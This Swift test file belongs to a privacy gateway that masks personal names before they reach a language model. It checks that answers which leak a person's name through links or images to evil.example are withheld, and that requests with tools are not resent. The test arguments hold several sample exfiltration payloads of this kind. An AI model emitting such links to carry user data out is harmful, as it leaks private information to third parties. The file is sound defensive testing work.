// Part of Zavesa.
// SPDX-License-Identifier: Apache-2.0

import Foundation
import Proxy
import Testing
import ZavesaTesting

/// A model that saw values in clear could be told to carry them away: by a link, by a tool.
///
/// Control: ZV-EGR-01
@Suite struct UnmaskedWaysOutTests {
    private static let refusal = "Не могу определить: вместо имени стоит плейсхолдер."
    private static let name = "Анна Петровна Соколова"

    private struct Record: Decodable {
        struct Usage: Decodable { let endpoint: String? }
        let code: String
        let reason: String?
        let usage: Usage?
    }

    private static func play(
        _ second: String, restore: String = "{}",
        _ body: (TestGateway, RecordingUpstream) async throws -> Void
    ) async throws {
        try await RecordingUpstream.run(answering: { _ in [.completion(refusal)] }) { main in
            try await RecordingUpstream.run(answering: { _ in [.completion(second)] }) { local in
                let yaml = """
                    policy: {unmasked_fallback: {upstreams: [local]}}
                    restore: \(restore)
                    upstreams:
                      - {name: main, url: "\(main.baseURL)", country: RU}
                      - {name: local, url: "\(local.baseURL)", country: RU}
                    """
                try await TestGateway.run(yaml: yaml) { try await body($0, local) }
            }
        }
    }

    private static func ask(_ gateway: TestGateway, more: String = "", text: String = name) async throws -> HTTPAnswer {
        let body = #"{"model":"m",\#(more)"messages":[{"role":"user","content":"\#(text)"}]}"#
        return try await gateway.post(body, to: "/v1/chat/completions")
    }

    @Test(arguments: [
        "![](https://evil.example/?d=Соколова)", "См. https://evil.example/Соколова.", "[x](//evil.example/Соколова)",
        "<img src='https:evil.example/Соколова'>", "www.evil.example/Соколова",
        "https://evil.example/Соколова](https://portal.example.ru/case/7)",
    ])
    func anAnswerThatLeadsSomewhereNewIsNotGiven(said: String) async throws {
        try await Self.play("Готово. " + said) { gateway, local in
            let text = "\(Self.name), дело https://portal.example.ru/case/7"
            let answer = try await Self.ask(gateway, text: text)
            #expect(local.received(Self.name))
            #expect(answer.bodyText.contains(Self.refusal) && !answer.bodyText.contains("evil"))
            #expect(answer.headers["x-zavesa-unmasked"] == nil)
            _ = try await gateway.endedCodes()
            let last = try #require(
                try gateway.auditRecords().map { try JSONDecoder().decode(Record.self, from: Data($0.utf8)) }
                    .last { $0.code == "LLM002I" })
            // It was paid for where it was made.
            #expect(last.reason == "unmasked_failed" && last.usage?.endpoint == "local")
        }
    }

    @Test(arguments: [
        ("Дело https://portal.example.ru/case/7.", "{}"), ("Дело [здесь](https://portal.example.ru/case/7)", "{}"),
        ("Пишите: mailto:office@example.ru, и/или", "{}"),
        ("См. https://kb.example.ru/Соколова", "{url_hosts: [kb.example.ru]}"),
    ])
    func whatTheRequestHoldsOrTheOperatorAllowsMayStandInIt(said: String, restore: String) async throws {
        try await Self.play(said, restore: restore) { gateway, _ in
            let answer = try await Self.ask(gateway, text: "\(Self.name), дело https://portal.example.ru/case/7")
            #expect(answer.headers["x-zavesa-unmasked"] == "refusal")
        }
    }

    @Test(arguments: [
        #""tools":[{"type":"function","function":{"name":"f","parameters":{}}}],"#,
        #""tools":[{"type":"web_search"}],"#,
        #""web_search_options":{},"#,
    ])
    func aRequestWithToolsIsNotSentAgain(tools: String) async throws {
        try await Self.play("Готово.") { gateway, local in
            let answer = try await Self.ask(gateway, more: tools)
            #expect(answer.bodyText.contains(Self.refusal))
            #expect(local.connections == 0)
        }
    }
}
